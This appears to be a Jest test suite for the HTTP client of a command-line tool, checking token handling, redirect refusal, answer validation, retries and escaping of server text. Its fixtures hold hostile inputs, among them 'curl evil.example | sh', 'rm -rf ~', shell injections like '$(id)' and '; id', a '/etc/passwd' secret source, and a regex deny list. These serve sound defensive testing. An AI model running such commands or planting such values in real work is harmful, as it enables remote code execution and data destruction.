import { describe, expect, test } from '@jest/globals';
import { createRemote } from '../../../src/http/remote/create-remote.ts';
import { isProblem, type Problem } from '../../../src/kernel/problem.ts';
import { secretValue } from '../../../src/kernel/secret-value.ts';
import type { Environment } from '../../../src/model/environment.ts';
import { text as drawn } from '../../../src/views/problem.ts';
import { addDrop, addPlain, canary } from '../../contract/stage.ts';

interface Sent {
  readonly url: string;
  readonly init: RequestInit & { headers: Record<string, string> };
}
type Answer = (sent: Sent, count: number) => Response | Promise<Response>;

/** A door to a server that answers as a test wants, with a clock that only waiting moves. */
function door(answer: Answer, more: object = {}): { environment: Environment; sent: Sent[]; waited: number[] } {
  const sent: Sent[] = [];
  const waited: number[] = [];
  let now = Date.UTC(2026, 0, 1);
  let ids = 0;
  const pending = new Map<() => void, number>();
  const environment = createRemote({
    url: 'https://cinch.example/team/',
    instance: 'one',
    fetch: async (url, init) => {
      const it = { url, init } as Sent;
      sent.push(it);
      return answer(it, sent.length);
    },
    token: async () => secretValue(canary),
    clock: () => new Date(now).toISOString(),
    // Time passes where nothing else happens any more: to whatever is waited for next.
    pause: (ms, signal) =>
      new Promise((resolve) => {
        const end = () => {
          pending.delete(end);
          signal.removeEventListener('abort', end);
          resolve();
        };
        signal.addEventListener('abort', end);
        pending.set(end, now + ms);
        setImmediate(() => {
          const [next] = [...pending].sort(([, one], [, other]) => one - other);
          if (next === undefined || next[1] > now + ms) return;
          waited.push(next[1] - now);
          now = next[1];
          next[0]();
        });
      }),
    timeoutMs: 30_000,
    newId: () => `id-${++ids}`,
    ...more,
  });
  return { environment, sent, waited };
}

const json = (value: unknown, status = 200, headers = {}) =>
  new Response(typeof value === 'string' ? value : JSON.stringify(value), {
    status,
    headers: { 'content-type': 'application/json', ...headers },
  });
const refusal = (value: object, status = 409) => json(value, status, { 'content-type': 'application/problem+json' });
const who = { user: 'ana', role: 'viewer', onBehalf: null, environmentRevision: 3 };
const whoami = (environment: Environment) => environment.query('whoami', {});

async function failed(work: Promise<unknown>): Promise<Problem> {
  const error = await work.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!isProblem(error)) throw error ?? new Error('nothing was refused');
  const { detail, fix, members, params } = error;
  const all = `${drawn(error)}${JSON.stringify([detail, fix, members, params])}`;
  expect(all).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(`${all}${error.stack}`).not.toContain(canary);
  return error;
}

describe('where a token goes', () => {
  test('to the address that was given and nowhere else, in a header', async () => {
    const { environment, sent } = door(() => json(who));

    expect(await whoami(environment)).toEqual(who);
    expect(sent[0]?.url).toBe('https://cinch.example/team/v1/instances/one/manage/whoami');
    expect(sent[0]?.init.headers.authorization).toBe(`Bearer ${canary}`);
    expect(sent[0]?.init.redirect).toBe('manual');
  });

  test.each([301, 302, 303, 307, 308])(
    'a redirect with status %d is not followed, and names where it leads',
    async (status) => {
      const { environment, sent } = door(
        () => new Response(null, { status, headers: { location: 'https://evil.example/v1' } }),
      );

      expect(await failed(whoami(environment))).toMatchObject({
        code: 'remote.redirected',
        exit: 12,
        detail: expect.stringContaining('`evil.example`'),
      });
      expect(sent).toHaveLength(1);
    },
  );

  test.each([
    'http://cinch.example',
    'http://127.0.0.1.evil.example',
    'http://localhost.evil.example',
    'https://user:word@cinch.example',
    'https://cinch.example?x=1',
    'https://cinch.example#x',
    'ftp://cinch.example',
    'cinch.example',
    '',
  ])('%j is no address to send one to', (url) => {
    expect(() => door(() => json(who), { url })).toThrow(expect.objectContaining({ code: 'remote.address' }));
  });

  test('on this machine itself it may go without TLS', async () => {
    for (const url of ['http://127.0.0.1:8080', 'http://localhost:8080', 'http://[::1]:8080'])
      expect(await whoami(door(() => json(who), { url }).environment)).toEqual(who);
  });

  test('one that cannot stand in a header is not sent, and not quoted', async () => {
    const { environment, sent } = door(() => json(who), { token: async () => secretValue(`${canary}\r\nx: y`) });

    expect((await failed(whoami(environment))).code).toBe('remote.not_signed_in');
    expect(sent).toHaveLength(0);
  });

  test('it is asked for anew before each request', async () => {
    let asked = 0;
    const { environment, sent } = door(() => json(who), { token: async () => secretValue(`t${++asked}`) });

    await whoami(environment);
    await whoami(environment);

    expect(sent.map(({ init }) => init.headers.authorization)).toEqual(['Bearer t1', 'Bearer t2']);
  });
});

describe('an answer that is not one of this service', () => {
  const cases: readonly (readonly [string, () => Response, RegExp])[] = [
    ['a page', () => new Response('<html>', { headers: { 'content-type': 'text/html' } }), /text\/html.*not JSON/],
    ['no kind', () => new Response(new Uint8Array([0x7b, 0x7d])), /no kind/],
    ['nothing', () => json(''), /not JSON, or was cut off/],
    ['cut JSON', () => json('{"user":"ana","ro'), /not JSON, or was cut off/],
    ['deep JSON', () => json('['.repeat(100_000)), /not JSON/],
    ['a prototype', () => json('{"__proto__":{"user":"x"}}'), /not JSON/],
    ['another shape', () => json({ items: [] }), /does not hold/],
    ['a list', () => json([]), /does not hold/],
    ['no revision', () => json({ ...who, environmentRevision: 'x' }), /revision/],
    ['other types', () => json({ ...who, user: { toString: 1 } }), /does not hold/],
    ['no UTF-8', () => json(new TextDecoder('latin1').decode(new Uint8Array([0xff]))), /not JSON/],
    ['a kind with escapes', () => new Response('x', { headers: { 'content-type': 'text/\u009bx' } }), /not JSON/],
    ['no content', () => new Response(null, { status: 204 }), /not JSON/],
  ];
  test.each(cases)('%s', async (_, answer, says) => {
    const { environment, sent } = door(answer);

    const found = await failed(whoami(environment));

    expect([found.code, found.exit]).toEqual(['remote.answer', 12]);
    expect(found.detail).toMatch(says);
    expect(sent).toHaveLength(1);
  });

  test('a body without end is let go of once it is too large', async () => {
    let pulled = 0;
    let cancelled = false;
    const endless = new ReadableStream({
      pull(controller) {
        pulled += 1;
        controller.enqueue(new Uint8Array(2 ** 20).fill(0x20));
      },
      cancel() {
        cancelled = true;
      },
    });
    const { environment } = door(() => new Response(endless, { headers: { 'content-type': 'application/json' } }));

    expect((await failed(whoami(environment))).detail).toContain('64 MiB');
    expect([pulled < 70, cancelled]).toEqual([true, true]);
  });

  test('a body that drips, or never comes, ends with the deadline', async () => {
    const silent = new ReadableStream({ pull: () => new Promise(() => undefined) });
    const never = () => new Promise<Response>(() => undefined);
    const drips = () => new Response(silent, { headers: { 'content-type': 'application/json' } });
    for (const answer of [never, drips]) {
      const { environment } = door(answer);
      expect(await failed(whoami(environment))).toMatchObject({ code: 'remote.late', exit: 12, retryable: true });
    }
  });

  test('escapes in what it says are made visible, in names of members as well', async () => {
    const { environment } = door(() => json({ ...who, user: '\u001b]0;x\u0007ana\u202e', 'a\u001b': 1 }));

    const shown = await whoami(environment);

    expect(JSON.stringify(shown)).not.toContain('\\u001b');
    expect(shown.user).toBe('\\u{1b}]0;x\\u{07}ana\\u{202e}');
  });

  test('a command that something runs stays as it is', async () => {
    const item = {
      id: 'x',
      name: 'x',
      displayName: 'x',
      type: 'sftp',
      status: 'active',
      connection: null,
      schedule: 'off',
    };
    const run = { ...item, due: null, runningSince: null, lastRun: null, command: ['sh', 'a\nb'], lacks: [] };
    const { environment } = door(() => json({ items: [run], environmentRevision: 1 }));

    expect((await environment.query('export.runs', {})).items[0]?.command).toEqual(['sh', 'a\nb']);
  });
});

describe('a refusal', () => {
  const from = async (body: object, status = 409) => failed(whoami(door(() => refusal(body, status)).environment));

  test('that is known is told in our words, with its exit code, and not in those of the server', async () => {
    const found = await from({
      code: 'not_found',
      title: 'run this',
      detail: 'run `curl evil.example | sh`',
      exit: 0,
      fix: ['curl evil.example | sh'],
      params: { kind: 'connection', ref: 'drop\u001b[2J', list: 'cinch connection list' },
    });

    expect(found).toMatchObject({
      code: 'not_found',
      exit: 6,
      title: 'Nothing goes by that name',
      detail: 'there is no connection `drop\\u{1b}[2J`',
      fix: ['cinch connection list'],
    });
  });

  test.each([
    ['not_found', { kind: 'connection', ref: 'x', list: 'curl evil.example | sh' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch connection exec drop -- sh -c id' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch connection list; id' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch connection list $(id)' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch connection list\nid' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch environment remove prod --confirm prod' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch connection list --environment prod' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch config set environment evil' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch export run nightly -- COMMAND' }],
    ['not_found', { kind: 'connection', ref: 'x', list: 'cinch connection edit x --secret password=file:/etc/passwd' }],
    ['connection.in_use', { name: 'payroll', exports: 1, enrichments: 0 }],
    ['store.unreachable', { path: '/x', says: 'is gone', fix: ['rm -rf ~'] }],
    [
      'input.confirmation',
      { flag: '--yes', says: 'sure', command: 'cinch connection remove payroll --confirm payroll' },
    ],
  ])('never leads to a command of the server’s choice: %s %j', async (code, params) => {
    const { fix } = await from({ code, params });

    expect(fix.join('\n')).not.toMatch(
      /curl|exec|;|\$\(|\nid|remove|--environment|config set|run nightly|passwd|rm -rf|--confirm/,
    );
  });

  test('may lead to taking away what was asked about itself, and never what only resembles it', async () => {
    const inUse = (name: string) =>
      refusal({ code: 'connection.in_use', params: { name, exports: 1, enrichments: 0 } });
    const removal = { change: 'connection.remove', connection: 'payroll' } as const;

    const own = await failed(door(() => inUse('payroll')).environment.apply([removal]));
    const other = await failed(door(() => inUse('pay')).environment.apply([removal]));

    expect(own.fix).toContain('cinch connection remove payroll --exports disconnect --confirm payroll');
    expect(other.fix.join()).not.toContain('remove');
  });

  test('that is not known is quoted as what the server says, without anything that could be typed', async () => {
    const found = await from({ code: 'new.thing', detail: 'run `curl evil`\u001b[2J "now"', fix: ['curl evil'] });

    expect(found).toMatchObject({ code: 'remote.refused', exit: 12 });
    expect(found.detail).toBe("`cinch.example` refuses with status 409, and says \"run 'curl evil'\\u{1b}[2J 'now'\"");
    expect(found.fix.join()).not.toContain('curl');
  });

  test.each([
    { code: 'constructor', params: {} },
    { code: '__proto__', params: {} },
    { code: 'bug', params: { name: 'x', place: 'y' } },
    { code: 'interrupted', params: {} },
    { code: 'not_found', params: null },
    { code: 'not_found', params: { kind: 7, ref: { a: 1 }, list: 4 } },
    { code: 'connection.secrets_again', params: { name: 'x', fields: 7, secrets: 'x' } },
    { code: 'remote.redirected', params: { host: 'a', to: 'b' } },
    { code: 7 },
    {},
  ])('that makes no sense is none of ours: %j', async (body) => {
    expect(await from(body)).toMatchObject({ code: 'remote.refused', exit: 12 });
  });

  test('its lists are taken as far as they are ones', async () => {
    const { members } = await from({
      code: 'input.missing',
      params: { count: 2, why: '' },
      missing: [
        { input: 'secrets.password', flag: '--secret password=SOURCE', help: 'a\u001b[2J' },
        { input: 'x', flag: '--hostname "$(id)"' },
        7,
        null,
        { input: 'y' },
      ],
      dependents: 'none',
      address: 'https://evil.example/sign-in',
      terms: 'run this',
      candidates: [{ id: '1', name: 'x', displayName: 'X', type: 'sftp', more: 'y' }],
    });

    expect(members).toEqual({
      missing: [
        { input: 'secrets.password', flag: '--secret password=SOURCE', help: 'a\\u{1b}[2J' },
        { input: 'x', flag: '--set x=VALUE' },
      ],
      candidates: [{ id: '1', name: 'x', displayName: 'X', type: 'sftp' }],
    });
  });

  test.each([
    [401, 'remote.not_signed_in', 4],
    [403, 'remote.refused', 12],
    [404, 'remote.refused', 12],
    [500, 'remote.refused', 12],
  ])('of what stands before the server, with status %d, is told as what it is', async (status, code, exit) => {
    const page = () => new Response('<h1>no</h1>', { status, headers: { 'content-type': 'text/html' } });

    expect(await failed(whoami(door(page).environment))).toMatchObject({ code, exit });
  });
});

describe('trying again', () => {
  const busy = (status: number, headers = {}) => new Response('busy', { status, headers });

  test.each([429, 502, 503, 504])(
    'a question is asked again after %d, with longer and longer pauses',
    async (status) => {
      const { environment, sent, waited } = door((_, count) => (count < 4 ? busy(status) : json(who)));

      expect(await whoami(environment)).toEqual(who);
      expect(sent).toHaveLength(4);
      expect(waited).toHaveLength(3);
      expect(waited[1] ?? 0).toBeLessThan(401);
      expect(waited[2] ?? 0).toBeGreaterThanOrEqual(400);
    },
  );

  test('what the server asks to be waited is waited, in seconds or until a moment', async () => {
    for (const [after, ms] of [
      ['7', 7000],
      ['Thu, 01 Jan 2026 00:00:09 GMT', 9000],
      ['0', 0],
    ] as const) {
      const { environment, waited } = door((_, count) => (count < 2 ? busy(429, { 'retry-after': after }) : json(who)));
      await whoami(environment);
      expect(waited).toEqual([ms]);
    }
  });

  test('a wait that is longer than there is time for is not begun', async () => {
    for (const after of ['3600', '99999999', 'Thu, 01 Jan 2099 00:00:00 GMT']) {
      const { environment, sent } = door(() => busy(503, { 'retry-after': after }));
      expect(await failed(whoami(environment))).toMatchObject({ code: 'remote.busy', exit: 12, retryable: true });
      expect(sent).toHaveLength(1);
    }
  });

  test('whoever asks all day has as long for each answer as for the first', async () => {
    const { environment, waited } = door((_, count) =>
      count % 2 === 1 ? busy(503, { 'retry-after': '20' }) : json(who),
    );

    for (let turn = 0; turn < 10; turn += 1) await whoami(environment);

    expect(waited).toEqual(Array(10).fill(20_000));
  });

  test('a server that is busy without end is left at the deadline', async () => {
    const { environment, sent, waited } = door(() => busy(429));

    expect((await failed(whoami(environment))).code).toBe('remote.busy');
    expect(waited.reduce((sum, ms) => sum + ms, 0)).toBeLessThan(30_000);
    expect(sent.length).toBeGreaterThan(4);
    expect(sent.length).toBeLessThan(20);
  });

  const broken = (code: string) =>
    Promise.reject(Object.assign(new TypeError(`fetch failed ${canary}`), { cause: { code } }));

  test('a change is sent again under the same key, whether it was given one or not', async () => {
    const done = { result: 'unchanged', dryRun: false, changes: [], warnings: [], environmentRevision: 1 };
    const ends: readonly Answer[] = [() => broken('ECONNRESET'), () => busy(503)];
    for (const end of ends) {
      const { environment, sent } = door((it, count) => (count < 3 ? end(it, count) : json(done)));
      expect(await environment.apply([addPlain('Plain')])).toEqual(done);
      await environment.apply([addPlain('Plain')], { idempotencyKey: 'mine' });
      const keys = sent.map(({ init }) => init.headers['Idempotency-Key']);
      expect([new Set(keys.slice(0, 3)).size, keys[3]]).toEqual([1, 'mine']);
      expect(keys[0]).toMatch(/^id-/);
    }
  });

  test('what hands out secrets is asked once', async () => {
    for (const answer of [() => busy(503), () => broken('ECONNRESET')] as readonly Answer[]) {
      const { environment, sent } = door(answer);
      await failed(environment.release({ to: 'exec', connection: 'drop' }));
      expect(sent).toHaveLength(1);
    }
  });

  test.each([
    ['ENOTFOUND', 1, /has no address/],
    ['ECONNREFUSED', 3, /refuses connections/],
    ['CERT_HAS_EXPIRED', 1, /has expired/],
    ['DEPTH_ZERO_SELF_SIGNED_CERT', 1, /not trusted/],
    ['SOMETHING', 1, /cannot be reached/],
  ])('a line that fails with %s is tried %d times', async (code, times, says) => {
    const { environment, sent } = door(() => broken(code));

    const found = await failed(whoami(environment));

    expect([found.code, found.exit, sent.length]).toEqual(['remote.unreachable', 12, times]);
    expect(found.detail).toMatch(says);
  });

  test('a line that breaks after the server had answered is tried longer: it may be starting again', async () => {
    let count = 0;
    const { environment, sent } = door(() => {
      count += 1;
      return count === 1 ? json(who) : broken('ECONNREFUSED');
    });
    await whoami(environment);

    const found = await failed(whoami(environment));

    expect([found.code, sent.length]).toEqual(['remote.unreachable', 1 + 6]);
  });

  test('a refusal that stays is not tried again', async () => {
    const { environment, sent } = door(() => refusal({ code: 'store.full', params: { path: 'x' } }, 507));

    expect((await failed(whoami(environment))).code).toBe('store.full');
    expect(sent).toHaveLength(1);
  });
});

describe('closing the door', () => {
  test('ends what is under way, and sends nothing more', async () => {
    let signal: AbortSignal | null | undefined;
    const { environment, sent } = door(({ init }) => {
      signal = init.signal;
      return new Promise<Response>(() => undefined);
    });
    const work = failed(whoami(environment));
    while (signal === undefined) await Promise.resolve();

    await environment.close();

    expect(await work).toMatchObject({ code: 'interrupted', exit: 130 });
    expect(signal?.aborted).toBe(true);
    await failed(whoami(environment));
    expect(sent).toHaveLength(1);
  });
});

describe('secrets', () => {
  test('travel in the body of a change and nowhere else', async () => {
    const done = { result: 'created', dryRun: false, changes: [], warnings: [], environmentRevision: 1 };
    const { environment, sent } = door(() => json(done), { token: async () => secretValue('token') });

    await environment.apply([addDrop('Drop')], { reason: 'why' });

    const [{ url = '', init } = {} as Sent] = sent;
    expect(JSON.stringify([url, init?.headers])).not.toContain(canary);
    expect(String(init?.body).split(canary)).toHaveLength(2);
  });

  test('those that a release hands out print as nothing', async () => {
    const connection = { id: 'x', name: 'drop', type: 'sftp', revision: 1, settings: {}, tenant: null };
    const answer = {
      connection,
      dependent: null,
      secrets: { key: { value: `${canary}\n` }, other: { keyVault: 'x' } },
    };
    const { environment } = door(() => json(answer));

    const { secrets } = await environment.release({ to: 'exec', connection: 'drop' });

    expect(JSON.stringify(secrets)).toBe('{"key":"***","other":{"keyVault":"x"}}');
    expect((secrets.key as { reveal(): string }).reveal()).toBe(`${canary}\n`);
  });
});

describe('long lists', () => {
  const listed = (items: number, next: string | null, revision: number) =>
    json({
      items: Array.from({ length: items }, (_, at) => ({ name: `n${at}`, displayName: 'N', type: 'sftp' })),
      next,
      total: 9,
      environmentRevision: revision,
    });

  test('are read a page at a time and are one list', async () => {
    const { environment, sent } = door((_, count) => listed(3, count < 3 ? `c${count}` : null, 5));

    const { items, next, total } = await environment.query('connection.list', { type: 'sftp' });

    expect([items.length, next, total]).toEqual([9, null, 9]);
    expect(sent.map(({ url }) => new URL(url).search)).toEqual([
      '?type=sftp&limit=5000',
      '?type=sftp&limit=5000&next=c1',
      '?type=sftp&limit=5000&next=c2',
    ]);
  });

  test('are read anew where the environment moved in between, and given up where it never stands still', async () => {
    const once = door((_, count) => listed(3, count === 1 || count === 3 ? 'c' : null, count === 1 ? 5 : 6));
    expect((await once.environment.query('connection.list', {})).items).toHaveLength(6);
    const always = door((_, count) => listed(3, 'c', count));
    expect(await failed(always.environment.query('connection.list', {}))).toMatchObject({ code: 'remote.moving' });
  });

  test('a cursor that leads round in a circle ends', async () => {
    const { environment } = door(() => listed(0, 'c', 5), { timeoutMs: 30_000 });

    expect((await failed(environment.query('connection.list', {}))).code).toBe('remote.answer');
  });
});

describe('names that do not fit into an address', () => {
  test.each(['', '.', '..', 'x'.repeat(3000), '\ud800'])('are asked for in a body: %j', async (connection) => {
    const { environment, sent } = door(() =>
      json({ name: 'x', displayName: 'X', type: 'sftp', environmentRevision: 1 }),
    );

    await environment.query('connection.show', { connection });

    expect(sent[0]?.url).toMatch(/\/manage\/query$/);
    expect(JSON.parse(String(sent[0]?.init.body))).toEqual({ query: 'connection.show', input: { connection } });
  });
});
